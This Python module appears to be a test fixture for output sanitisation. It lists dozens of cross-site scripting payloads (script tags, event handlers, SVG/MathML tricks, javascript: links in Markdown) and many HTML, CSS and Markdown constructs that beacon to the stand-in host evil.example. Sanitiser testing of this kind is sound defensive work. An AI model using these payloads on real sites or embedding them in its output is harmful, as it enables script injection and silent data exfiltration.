"""Foreign texts that would run or send something, if any view took them for more than words."""

HOST = "evil.example"
_RUNS = """
<script>caught(§)</script>
<script src=data:text/javascript,caught(§)></script>
<script type=module>caught(§)</script>
<SCRIPT>caught(§)</SCRIPT>
<scr<script>ipt>caught(§)</scr</script>ipt>
</title><script>caught(§)</script>
</textarea><script>caught(§)</script>
--><script>caught(§)</script>
<![CDATA[<script>caught(§)</script>]]>
<img src=x onerror=caught(§)>
<img src=x:x onerror="caught(§)"//>
<img/src/onerror=caught(§)>
<img src=x oNeRrOr=caught(§)>
"><img src=x onerror=caught(§)>
'><img src=x onerror=caught(§)>
<img srcset=x onerror=caught(§)>
<svg onload=caught(§)>
<svg><script>caught(§)</script></svg>
<svg><animate onbegin=caught(§) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:caught(§)>
<svg><a xlink:href=javascript:caught(§)><text y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=caught(§)>#x"/></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.caught(§)</script>">
<math><mtext><table><mglyph><style><img src=x onerror=caught(§)>
<math href=javascript:caught(§)>x</math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=caught(§)>
<noscript><p title="</noscript><img src=x onerror=caught(§)>">
<template><img src=x onerror=caught(§)></template>
<iframe srcdoc="<script>parent.caught(§)</script>"></iframe>
<iframe src=javascript:parent.caught(§)></iframe>
<iframe onload=caught(§)></iframe>
<object data=javascript:caught(§)></object>
<object data="data:text/html,<script>parent.caught(§)</script>"></object>
<embed src=javascript:caught(§)>
<body onload=caught(§)>
<body onpageshow=caught(§)>
<input onfocus=caught(§) autofocus>
<select onfocus=caught(§) autofocus></select>
<textarea onfocus=caught(§) autofocus></textarea>
<button onfocus=caught(§) autofocus>x</button>
<details open ontoggle=caught(§)>x</details>
<video src=x onerror=caught(§)></video>
<video><source onerror=caught(§)></video>
<audio src=x onerror=caught(§)></audio>
<marquee onstart=caught(§)>x</marquee>
<style onload=caught(§)></style>
<style>@import 'javascript:caught(§)';</style>
<link rel=stylesheet href=data:, onload=caught(§)>
<meta http-equiv=refresh content="0;url=javascript:caught(§)">
<base href="javascript:caught(§)//">
<div style="animation:x" onanimationstart=caught(§)>x</div>
<p id=x tabindex=1 onfocusin=caught(§) autofocus>x</p>
<a href=javascript:caught(§)>x</a>
[x](javascript:caught(§))
[x](<javascript:caught(§)>)
[x](java&#115;cript:caught(§))
![x](x"onerror="caught(§))
<javascript:caught(§)>
{{constructor.constructor('caught(§)')()}}
&lt;img src=x onerror=caught(§)&gt;
"""
_SENDS = """
![x](https://evil.example/§)
![x](//evil.example/§)
![x][r§]↵↵[r§]: https://evil.example/§
[![x](https://evil.example/§)](https://evil.example/§)
<https://evil.example/§>
[read this](https://evil.example/§ "ping")
<img src=https://evil.example/§>
<img srcset="https://evil.example/§ 2x">
<picture><source srcset=https://evil.example/§><img></picture>
<video poster=https://evil.example/§></video>
<video src=https://evil.example/§ autoplay></video>
<audio src=https://evil.example/§ autoplay></audio>
<track src=https://evil.example/§>
<iframe src=https://evil.example/§></iframe>
<iframe srcdoc="<img src=https://evil.example/§>"></iframe>
<embed src=https://evil.example/§>
<object data=https://evil.example/§></object>
<link rel=stylesheet href=https://evil.example/§>
<link rel=dns-prefetch href=https://evil.example/§>
<link rel=preconnect href=https://evil.example/§>
<link rel=prefetch href=https://evil.example/§>
<link rel=icon href=https://evil.example/§>
<meta http-equiv=refresh content="0;url=https://evil.example/§">
<base href=https://evil.example/§/>
<form action=https://evil.example/§><input autofocus></form>
<style>@import url(https://evil.example/§);</style>
<style>body{background:url(https://evil.example/§)}</style>
<p style="background:url(https://evil.example/§)">x</p>
<svg><image href=https://evil.example/§></svg>
<svg><use href=https://evil.example/§#x /></svg>
<table background=https://evil.example/§><tr><td>x</table>
<script src=https://evil.example/§></script>
<a href=https://evil.example/§ ping=https://evil.example/§>x</a>
"""


def _numbered(lines: str) -> list[str]:
    """One to a line; `§` is its number, `↵` a line break within it."""
    found = [line for line in lines.splitlines() if line]
    return [line.replace("§", str(number)).replace("↵", "\n") for number, line in enumerate(found)]


RUNS = _numbered(_RUNS)
SENDS = _numbered(_SENDS)
